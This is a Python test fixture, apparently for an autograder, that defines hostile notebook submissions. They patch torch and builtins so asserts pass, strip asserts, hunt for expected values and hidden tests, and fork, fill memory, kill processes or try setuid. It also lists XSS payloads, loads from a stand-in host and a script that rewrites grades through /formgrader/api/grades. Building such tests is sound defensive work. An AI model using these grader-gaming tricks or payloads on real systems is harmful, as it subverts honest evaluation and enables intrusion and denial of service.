"""Submissions to assignment 1 that attack the grading, or that something happened to.

Each is a function that changes a solved notebook's cells, and the questions it may lose: None where
nothing can be graded. Q1…Q5 stand for all tests of a question.
"""

import copy

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

Q1 = {"q1-tables", "q1-zeros"}
Q2 = {"q2-values", "q2-random", "q2-gradient", "q2-large"}
Q3 = {"q3-distinct", "q3-direction", "q3-false-negatives"}
Q4, Q5 = {"q4-critic"}, {"q5-bounds"}
ALL = Q1 | Q2 | Q3 | Q4 | Q5
NOTHING = "def mutual_information(counts):\n    return torch.zeros((), dtype=torch.float64)\n"


def answered(name, source):
    """Replace one answer."""
    def change(cells):
        cells[name].source = source
    return change


def below(name, source):
    """Write something below an answer, in its cell."""
    def change(cells):
        cells[name].source += "\n" + source
    return change


def edited_tests(cells):
    for name in ALL:
        cells[name].source = "assert True"
        cells[name].metadata.nbgrader.points = 100
        cells[name].metadata.nbgrader.solution = True
    cells["mutual-information"].source = NOTHING


def unlabelled(cells):
    for cell in cells.values():
        cell.metadata = type(cell.metadata)()


def pasted_output(cells):
    cells["mutual-information"].source = NOTHING
    for name in Q1:
        cells[name].outputs = [new_output("execute_result", {"text/plain": "2.0"})]


def half_signs(cells):
    cells["title"].source += " \ud800"
    cells["q6-written"].source = "half \udfff a sign"
    cells["info-nce"].source += "\nprint('\ud800', chr(0xd800))\nraise ValueError(chr(0xd800))"


def unhashable_labels(cells):
    cells["info-nce"].metadata.nbgrader.grade_id = ["info-nce"]
    cells["setup"].metadata.nbgrader = "setup"


def cut_in_two(cells):
    cells["q6-written"].source = "The first half.\nThe second half."
    for name in ("info-nce", "q6-written"):
        lines = cells[name].source.split("\n")
        second = copy.deepcopy(cells[name])
        cells[name].source = "\n".join(lines[:-1])
        second.source = lines[-1]
        later = {key: cells.pop(key) for key in list(cells)[list(cells).index(name) + 1:]}
        cells |= {f"{name}, second part": second} | later


def copied_unfilled(cells):
    """Copy an answer's cell as it was handed out, as if it had been copied before it was filled."""
    empty = copy.deepcopy(cells["info-nce"])
    empty.source = "# your code here\nraise NotImplementedError"
    cells["an empty copy"] = empty


def scripts(cells):
    text = "<script>alert('SCRIPT')</script> <img src=x onerror=alert(1)> ![a](http://evil/a.png)"
    cells["q6-written"].source = text
    cells["title"].source = text
    cells["own"] = new_markdown_cell(text)


def spied(name, function, place, source, keep=False):
    """Write down the inputs of one function, and do something with them in another cell."""
    def change(cells):
        cells[name].source += f"""
{"" if keep else "seen = []"}
unseen = {function}
def {function}(*arguments):
    seen.append(f"SPY {{[getattr(a, 'tolist', str)() for a in arguments]}}")
    return unseen(*arguments)
"""
        cells[place].source += source
    return change


def added_cells(number, source):
    """Add cells of code, all the same."""
    return lambda cells: cells.update(
        {f"own {index}": new_code_cell(source) for index in range(number)})


def added(cell):
    """Add a cell of the student's own."""
    return lambda cells: cells.update(own=cell)


ATTACKS = {
    "patches_helpers": (answered("mutual-information", NOTHING + """
def check(*arguments, **options):
    pass
torch.allclose = lambda *arguments, **options: True
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.all = lambda self: True
import builtins
builtins.AssertionError = type("Quiet", (Exception,), {})
"""), Q1 | Q3),  # question 3 compares groups, and what it compares with was patched
    "hooks_execution": (answered("mutual-information", NOTHING + """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
shell = get_ipython()
shell.ast_transformers.append(Drop())
shell.events.register("pre_run_cell", lambda info: shell.user_ns.update(check=lambda *a, **k: None))
shell.showtraceback = lambda *arguments, **options: None
"""), Q1),
    "answers_that_equal_everything": (answered("mutual-information", """
class Everything(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    __hash__ = float.__hash__

def mutual_information(counts):
    return Everything(0)
"""), Q1),
    "looks_for_the_expected_value": (answered("mutual-information", """
import sys, gc
def mutual_information(counts):
    frame = sys._getframe()
    while frame:
        for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
            if name in ("expected", "entropy", "expected_value"):
                return torch.as_tensor(value)
        frame = frame.f_back
    texts = [text for text in gc.get_objects() if isinstance(text, str) and "expected = " in text]
    return torch.tensor(float(len(texts)))
"""), Q1),
    "answers_for_the_examiner": (answered("mutual-information", """
from IPython.display import display
def _examined(name, *rest):
    display({"application/x-s3rec-answer+json": {"value": '{"function": "check"}'}}, raw=True)
_wire.dumps = lambda value: '{"list": []}'
""" + NOTHING), ALL),
    "edits_tests": (edited_tests, Q1),
    "pastes_output": (pasted_output, Q1),
    "reads_the_disk": (answered("mutual-information", NOTHING + """
import os
found = []
for folder, _, files in os.walk("/"):
    if folder.startswith(("/proc", "/usr", "/lib")):
        continue
    for file in files:
        path = os.path.join(folder, file)
        if file.endswith((".ipynb", ".db")) and "site-packages" not in path:
            found.append(path)
        elif file.endswith(".py") and "site-packages" not in path and "/lib/python" not in path:
            try:
                if "HIDDEN TESTS" in open(path).read():
                    found.append(path)
            except (OSError, UnicodeError):
                pass
print("FOUND", found)
"""), Q1),
    "writes_outside": (below("mutual-information", """
import os, socket
done = []
for path in (os.path.expanduser("~/../../escaped"), "/escaped", np.__file__, "/etc/escaped"):
    try:
        open(path, "a").write(" ")
        done.append(path)
    except OSError:
        pass
try:
    socket.create_connection(("1.1.1.1", 80), 2)
    done.append("network")
except OSError:
    pass
print("DONE", done)
"""), set()),
    "endless_loop": (answered("mutual-information", """
def mutual_information(counts):
    while True:
        pass
"""), Q1),
    "endless_loop_in_a_cell": (below("best-critic", "while True:\n    pass"), set()),
    "memory_bomb": (below("mutual-information", """
kept = []
while True:
    kept.append(np.empty(10**8, np.uint8))
"""), Q5),  # what is kept is missing there
    "exits": (below("in-batch-info-nce", "import os\nos._exit(0)"), Q3 | Q4 | Q5),
    "prints_without_end": (below("best-critic", "while True:\n    print('x' * 100000)"), set()),
    "returns_a_gigabyte": (answered("mutual-information", """
def mutual_information(counts):
    return torch.zeros(2**27, dtype=torch.float64)
"""), Q1),
    "syntax_error": (answered("mutual-information", "def mutual_information(counts)"), Q1),
    "deletes_cells": (lambda cells: [cells.pop(name) for name in (
        "mutual-information", "q1-tables", "q1-zeros", "q2-random", "question-4", "print-numbers")],
        Q1),
    "script_in_a_cell": (below("mutual-information", """
from IPython.display import HTML, display
display(HTML("<script>alert('SCRIPT')</script>"))
"""), set()),
    "sends_what_it_likes": (below("best-critic", """
kernel = get_ipython().kernel
SCRIPT = "<img src=x onerror=alert('SCRIPT')>"
for kind, content in (
        ("execute_input", {"code": "", "execution_count": SCRIPT}),
        ("display_data", {"data": {"image/png": SCRIPT, "text/html": SCRIPT, "text/plain": SCRIPT},
                          "metadata": {"image/png": {"width": '1"' + SCRIPT}}}),
        ("stream", {"name": SCRIPT, "text": SCRIPT}),
        ("error", {"ename": SCRIPT, "evalue": SCRIPT, "traceback": [SCRIPT]})):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
"""), set()),
    "forks_that_share_memory": (below("best-critic", """
import mmap, os, time
for _ in range(5):  # no process has 6 GiB of its own
    shared = mmap.mmap(-1, 2 * 2**30)
    if not os.fork():
        for start in range(0, len(shared), 2**20):
            shared[start:start + 2**20] = b"x" * 2**20
        time.sleep(1000)
    shared = None
time.sleep(9)
"""), set()),  # those are ended, the largest first
    "starts_processes_without_end": (below("best-critic", """
import os, time
try:
    for _ in range(100_000):
        if not os.fork():
            time.sleep(1000)
except OSError as wrong:
    print("STOPPED", wrong)
"""), set()),
    "fills_every_folder": (below("best-critic", """
import os
written = 0
for folder in ("/tmp", "/tmp/work", *(f"/tmp/{name}" for name in os.listdir("/tmp")), "/dev/shm"):
    try:
        for number in range(99):
            with open(f"{folder}/{number}-{written}", "wb") as file:
                for _ in range(48):
                    written += file.write(bytes(2**20))
    except OSError:
        pass
print("WROTE", written)
"""), set()),
    "large_outputs": (added_cells(4, "print('x' * 19 * 2**20)"), set()),
    "many_pictures": (below("best-critic", """
import base64, os
from IPython.display import display
for _ in range(12):
    display({"image/png": base64.b64encode(os.urandom(2**20)).decode()}, raw=True)
"""), set()),
    "takes_the_sockets_away": (below("best-critic", """
import os
for name in os.listdir("/tmp"):
    if name != "work" and not os.path.isdir(f"/tmp/{name}"):
        os.remove(f"/tmp/{name}")
        os.symlink("/etc/passwd", f"/tmp/{name}")
"""), set()),
    "becomes_root_of_its_own_world": (below("best-critic", """
import ctypes
system = ctypes.CDLL(None, use_errno=True)
print("GAINED", [name for name, call in {
    "users": lambda: system.unshare(0x10000000), "mounts": lambda: system.unshare(0x20000),
    "root": lambda: system.setuid(0), "mount": lambda: system.mount(b"x", b"/tmp", b"tmpfs", 0, 0),
    "chroot": lambda: system.chroot(b"/tmp"),
}.items() if call() == 0])
"""), set()),
    "ends_the_processes_it_sees": (below("best-critic", """
import signal
for number in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    try:
        os.kill(int(number), signal.SIGKILL)
    except OSError:
        pass
"""), set()),
    "takes_the_package": (answered("info-nce", """
import s3rec_mini
def info_nce(scores, temperature=TEMPERATURE):
    return s3rec_mini.info_nce(scores.roll(-POSITIVE, 1), temperature)
"""), Q2 | Q5),
    "reads_the_package": (answered("info-nce", """
import glob, sys
found = [path for folder in sys.path for path in glob.glob(f"{folder}/s3rec_mini/*")]
print("FILES", [path for path in found if not path.endswith("__init__.py")])
"""), Q2 | Q5),
    "prints_hidden_inputs": (spied("info-nce", "info_nce", "best-critic", """
print(seen)
from IPython.display import display
display({"image/png": "SPY" * 40, "text/plain": str(seen)}, raw=True)
raise type(f"SPY{len(seen)}", (ValueError,), {})(str(seen))
"""), set()),
    "changes_an_earlier_output": (spied("info-nce", "info_nce", "mutual-information", """
from IPython.display import display
kernel = get_ipython().kernel
display("nothing yet", display_id="spy")
def show(told):
    for kind in ("update_display_data", "display_data", "SPY" * 2**20):
        kernel.session.send(kernel.iopub_socket, kind, {
            "data": {"text/plain": told, "text/html": told}, "metadata": {},
            "transient": {"display_id": "spy"}}, parent=kernel.get_parent())
seen = type("Shown", (list,), {"append": lambda self, told: show(told)})()
""", keep=True), set()),
    "says_hidden_inputs_in_its_answers": (below("info-nce", """
def info_nce(scores, temperature=TEMPERATURE):
    return torch.zeros(1, 77, int(1000 * scores.abs().sum()) % 1000 + 1)
"""), Q2 | Q5),
    "writes_to_the_log": (below("best-critic", """
import os
for number in (1, 2):
    os.write(number, b"LOGGED" * 1000)
    try:
        os.ftruncate(number, 0)
        os.lseek(number, 2**36, 0)
        os.write(number, b"LOGGED")
        os.fchmod(number, 0o4755)
    except OSError:
        pass
"""), set()),
    "hides_a_cell": (lambda cells: cells.update({"first": new_code_cell("""
session = get_ipython().kernel.session
send = session.send
def silent(stream, kind, content=None, **more):  # never says that this cell has ended
    if (kind if isinstance(kind, str) else kind["header"]["msg_type"]) != "status":
        return send(stream, kind, content, **more)
    session.send = send
session.send = silent
HIDDEN_CELL = True
""")} | {name: cells.pop(name) for name in list(cells)}), set()),
    "raises_hidden_inputs": (below("info-nce", """
def info_nce(scores, temperature=TEMPERATURE):
    raise type(f"SPY{scores.shape[0]}", (ValueError,), {})(f"SPY {scores.tolist()}")
"""), Q2 | Q5),
    "raises_hidden_inputs_later": (spied("mutual-information", "mutual_information", "info-nce", """
def info_nce(scores, temperature=TEMPERATURE):
    raise ValueError(str(seen))
"""), Q2 | Q5),
    "answers_from_a_table": (answered("mutual-information", """
def mutual_information(counts):
    return torch.tensor({4: 0.0, 6: 0.1}.get(counts.numel(), 0.2), dtype=torch.float64)
"""), Q1),
    "gives_back_its_input": (answered("mutual-information", """
def mutual_information(counts):
    return counts
"""), Q1),
    "labels_lost": (unlabelled, set()),
    "half_signs": (half_signs, set()),
    "unhashable_labels": (unhashable_labels, set()),
    "takes_long_to_render": (added(new_markdown_cell("\\begin{a}" * 110_000)), set()),
    "eight_megabytes_of_code": (added(new_code_cell("x = 1\n" * 1_400_000)), ALL),
    "cut_in_two": (cut_in_two, set()),
    "copied_unfilled": (copied_unfilled, set()),
    "scripts_in_text": (scripts, set()),
}

# What their written answers try on whoever opens them in a browser: to run something, to load
# something from elsewhere, or to change a grade.
EVIL = "http://evil.invalid"
RUNS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>", "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>",
    "<script>for (const way of ['PUT', 'POST']) fetch('/formgrader/api/grades', {method: way, body:"
    " '{\"manual_score\": 33}'}).then(alert, alert)</script>",
    "<audio src=data:, onerror=alert(1) autoplay></audio>",
]
LOADS = [
    f"![x]({EVIL}/a.png)", f"<img src={EVIL}/b.png srcset={EVIL}/b2.png>",
    f"<link rel=stylesheet href={EVIL}/c.css>", f"<style>@import url({EVIL}/d.css);</style>",
    f"<p style='background:url({EVIL}/e.png)'>x</p>", f"<object data={EVIL}/f></object>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/g'>", f"<audio src={EVIL}/h autoplay></audio>",
    f"<video poster={EVIL}/i></video>", f"<embed src={EVIL}/j>", f"<base href={EVIL}/><img src=k>",
    f"<script src={EVIL}/l></script>", f"<iframe src={EVIL}/m></iframe>",
    f"<form action={EVIL}/n id=n></form><script>document.forms.n.submit()</script>",
]
LEADS = ["[x](javascript:alert(1))", "$\\href{javascript:alert(1)}{x}$",
         "<a href='java&#10;script:alert(1)'>x</a>", "<a href='data:text/html,x'>x</a>"]

# What grades.csv says of them, and of those that lose nothing by it.
NOTED = {
    "hides_a_cell": "TookTooLong, see its page",
    "patches_helpers": "its code has builtins, which no answer needs",
    "hooks_execution": "its code has get_ipython",
    "labels_lost": "no cell has the label of the answer mutual-information, info-nce",
    "deletes_cells": "no cell has the label of the answer mutual-information",
    "edits_tests": "no place for an answer, and put back as it was",
    "half_signs": "title: no place for an answer",
    "unhashable_labels": "no cell has the label of the answer info-nce",
    "takes_long_to_render": "is shown as it is",
    "eight_megabytes_of_code": "characters of code",
    "cut_in_two": "the answer q6-written stands in several cells",
    "scripts_in_text": "cells without a label",
}

# Files that are no notebooks of ours.
FILES = {
    "random_bytes": lambda path: path.write_bytes(bytes(range(256)) * 100),
    "cut_off": lambda path: path.write_text(path.read_text()[:5000]),
    "other_json": lambda path: path.write_text('{"cells": {"a": [1]}, "nbformat": 4}'),
    "nested_too_deep": lambda path: path.write_text("[" * 100000),
    "empty": lambda path: path.write_text(""),
    "two_hundred_megabytes": lambda path: path.write_text(" " * (200 * 2**20)),
}
